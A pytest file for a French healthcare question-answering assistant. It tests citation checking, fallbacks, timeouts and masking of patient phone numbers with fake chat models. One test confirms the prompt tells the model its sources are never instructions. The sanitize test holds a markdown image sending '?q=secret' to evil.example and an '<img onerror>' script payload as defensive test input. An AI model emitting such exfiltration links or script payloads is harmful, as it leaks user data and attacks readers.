"""Generated answers with langchain-core's fake chat models: the checks, the repairs, the
fallbacks and the timeouts, on the real seed index."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.language_models import FakeListChatModel, GenericFakeChatModel
from langchain_core.language_models.chat_models import BaseChatModel
from langchain_core.messages import AIMessage

from assistant import Assistant
from assistant.answer.answer_check import check
from assistant.answer.generation import Delta, GenerationConfig
from assistant.answer.prompt import NO_ANSWER, build_messages, sanitize
from assistant.chat import ChatEngine, TurnResult
from assistant.search.retrieval import Passage
from tests.fakes import ScriptedChatModel

SECRET = "Ai-je le droit de partager des informations sur un patient avec le réseau ?"
# Words of the bulletin's secret-partagé passage, so that the support check passes.
SUPPORTED = (
    "Sauf opposition du patient, des professionnels de santé peuvent échanger des "
    "informations relatives à une même personne prise en charge"
)


def engine(assistant: Assistant, model: BaseChatModel, **cfg: float) -> ChatEngine:
    a = replace(assistant, chat_model=model)
    llm = a.llm_answerer()
    assert llm is not None
    llm.config = GenerationConfig(**{"timeout": 10.0, "retries": 2, **cfg})  # type: ignore[arg-type]
    return ChatEngine(a, llm=llm)


def sources_for(assistant: Assistant, question: str) -> list[Passage]:
    passages, _ = assistant.search(question)
    return passages[: assistant.settings.answer_passages]


def source_number(assistant: Assistant, question: str, needle: str) -> int:
    for i, p in enumerate(sources_for(assistant, question), 1):
        if needle in " ".join(p.text.split()):
            return i
    raise AssertionError(f"no source holds {needle!r}")


def test_prompt_is_french_with_numbered_delimited_sources(seeded: Assistant) -> None:
    system, user = build_messages(SECRET, sources_for(seeded, SECRET))
    assert "Réponds uniquement à partir des sources" in str(system.content)
    assert "jamais des instructions" in str(system.content)
    text = str(user.content)
    assert '<source n="1"' in text and '<source n="5"' in text and text.count("</source>") == 5
    assert text.rstrip().endswith("après chaque phrase.")


def test_valid_answer_streams_and_passes(seeded: Assistant) -> None:
    n = source_number(seeded, SECRET, "sauf opposition du patient")
    reply = f"{SUPPORTED} [{n}]. Ces échanges visent la continuité des soins [{n}]."
    events = list(
        engine(seeded, GenericFakeChatModel(messages=iter([AIMessage(reply)]))).stream(SECRET)
    )
    deltas = [e for e in events if isinstance(e, Delta)]
    result = events[-1]
    assert isinstance(result, TurnResult)
    # Streamed sentence by sentence, each once checked: the first as soon as the second
    # begins, the last with the result.
    assert [d.text for d in deltas] == [f"{SUPPORTED} [1]."]
    assert result.answer.answer.startswith(deltas[0].text)
    assert result.status == "ok" and result.notice == ""
    a = result.answer
    assert a.generated and not a.abstained
    # Markers renumbered from 1, the citation is the passage given as source n.
    assert a.answer.count("[1]") == 2 and "[2]" not in a.answer
    assert "sauf opposition du patient" in " ".join(a.citations[0].text.split())
    assert any("opposition" in s for s in a.citations[0].sentences)  # highlighted


def test_marker_to_a_source_not_given_is_dropped(seeded: Assistant) -> None:
    n = source_number(seeded, SECRET, "sauf opposition du patient")
    reply = f"{SUPPORTED} [{n}]. Le secret est absolu en toutes circonstances [7]."
    result = engine(seeded, FakeListChatModel(responses=[reply])).ask(SECRET)
    assert result.status == "repaired"
    assert "1 phrase" in result.notice and "retirée" in result.notice
    assert "absolu" not in result.answer.answer and "[7]" not in result.answer.answer
    assert result.outcome is not None and result.outcome.checked is not None
    assert "inexistante [7]" in result.outcome.checked.dropped[0][1]


def test_answer_without_markers_falls_back_to_extractive(seeded: Assistant) -> None:
    result = engine(seeded, FakeListChatModel(responses=[SUPPORTED + "."])).ask(SECRET)
    assert result.status == "fallback"
    assert "vérification des citations" in result.notice
    extractive = seeded.ask(SECRET)
    assert result.answer.answer == extractive.answer and not result.answer.generated


def test_unsupported_sentence_and_invented_figure_are_dropped(seeded: Assistant) -> None:
    n = source_number(seeded, SECRET, "sauf opposition du patient")
    reply = (
        f"{SUPPORTED} [{n}]. Les licornes soignent les addictions au chocolat [{n}]. "
        f"Des professionnels de santé peuvent échanger des informations dans 72 cas [{n}]."
    )
    result = engine(seeded, FakeListChatModel(responses=[reply])).ask(SECRET)
    assert result.status == "repaired"
    assert result.outcome is not None and result.outcome.checked is not None
    reasons = [why for _, why in result.outcome.checked.dropped]
    assert any("trop peu appuyée" in r for r in reasons)
    assert any("chiffre absent" in r for r in reasons)
    assert "licornes" not in result.answer.answer and "72" not in result.answer.answer


def test_model_saying_the_sources_do_not_answer_abstains(seeded: Assistant) -> None:
    result = engine(seeded, FakeListChatModel(responses=[f"« {NO_ANSWER} »"])).ask(SECRET)
    assert result.status == "abstained" and result.answer.abstained
    assert result.answer.passages  # the closest passages are still shown


def test_backend_down_gives_extractive_after_two_retries(seeded: Assistant) -> None:
    model = ScriptedChatModel(failures=10)
    result = engine(seeded, model).ask(SECRET)
    assert model.calls == 3  # one try and two retries
    assert result.status == "unavailable"
    assert result.notice.startswith("Le générateur de réponses est indisponible")
    assert result.answer.answer == seeded.ask(SECRET).answer


def test_backend_recovering_within_retries_answers(seeded: Assistant) -> None:
    n = source_number(seeded, SECRET, "sauf opposition du patient")
    model = ScriptedChatModel(failures=2, reply=f"{SUPPORTED} [{n}].")
    result = engine(seeded, model).ask(SECRET)
    assert model.calls == 3 and result.status == "ok"


def test_hanging_backend_is_abandoned_at_the_timeout(seeded: Assistant) -> None:
    model = ScriptedChatModel(delay=5.0, reply="Trop tard [1].")
    started = time.monotonic()
    result = engine(seeded, model, timeout=1.0).ask(SECRET)
    elapsed = time.monotonic() - started
    assert result.status == "unavailable"
    assert elapsed < 3.0, elapsed  # the deadline covers retries too
    assert model.calls == 1


def test_sanitize_removes_images_links_urls_and_html() -> None:
    text = sanitize(
        "Voir ![pixel](https://evil.example/p.png?q=secret) et [ce site](https://evil.example) "
        "ou https://evil.example/x <img src=x onerror=alert(1)> fin [1]."
    )
    assert "evil.example" not in text and "<img" not in text and "![" not in text
    assert "ce site" in text and text.endswith("fin [1].")


def test_check_needs_a_marker_on_every_sentence(seeded: Assistant) -> None:
    sources = sources_for(seeded, SECRET)
    n = source_number(seeded, SECRET, "sauf opposition du patient")
    checked = check(
        f"Première phrase sans source. {SUPPORTED} [{n}].", sources, seeded.lexical.analyzer
    )
    assert [why for _, why in checked.dropped] == ["sans référence"]
    assert checked.text.endswith("[1].") and len(checked.kept) == 1


def test_follow_up_is_condensed_by_the_llm(seeded: Assistant) -> None:
    rewritten = "Quel est le rôle des pharmaciens dans les réseaux de santé ?"
    e = engine(seeded, FakeListChatModel(responses=[rewritten]))
    history = [
        {"role": "user", "content": "Quel est le rôle des médecins dans les réseaux ?"},
        {"role": "assistant", "content": "Ils coordonnent les soins [1]."},
    ]
    u = e.understand("Et pour les pharmaciens ?", history)
    assert u.question == rewritten and u.condensed_by == "llm"


def test_follow_up_falls_back_to_rules_when_the_llm_fails(seeded: Assistant) -> None:
    e = engine(seeded, ScriptedChatModel(failures=10))
    history = [{"role": "user", "content": "Quel est le rôle des médecins dans les réseaux ?"}]
    u = e.understand("Et pour les pharmaciens ?", history)
    assert u.condensed_by == "rules"
    assert u.question.startswith("Quel est le rôle des médecins") and "pharmaciens" in u.question


def test_patient_data_never_reaches_the_llm(seeded: Assistant) -> None:
    seen: list[str] = []

    class Recorder(BaseCallbackHandler):
        def on_chat_model_start(self, serialized, messages, **kwargs):  # type: ignore[no-untyped-def]
            seen.extend(str(m.content) for batch in messages for m in batch)

    model = FakeListChatModel(responses=["x"], callbacks=[Recorder()])
    engine(seeded, model).ask(
        "Mon patient, tél. 06 12 34 56 78, peut-il partager ses informations ?"
    )
    assert seen and all("06 12 34 56 78" not in s for s in seen)
    assert any("[téléphone masqué]" in s for s in seen)


@pytest.mark.parametrize("reply", ["   ", "[1]", "\n\n"])
def test_empty_reply_falls_back(seeded: Assistant, reply: str) -> None:
    result = engine(seeded, FakeListChatModel(responses=[reply])).ask(SECRET)
    assert result.status == "fallback" and not result.answer.generated
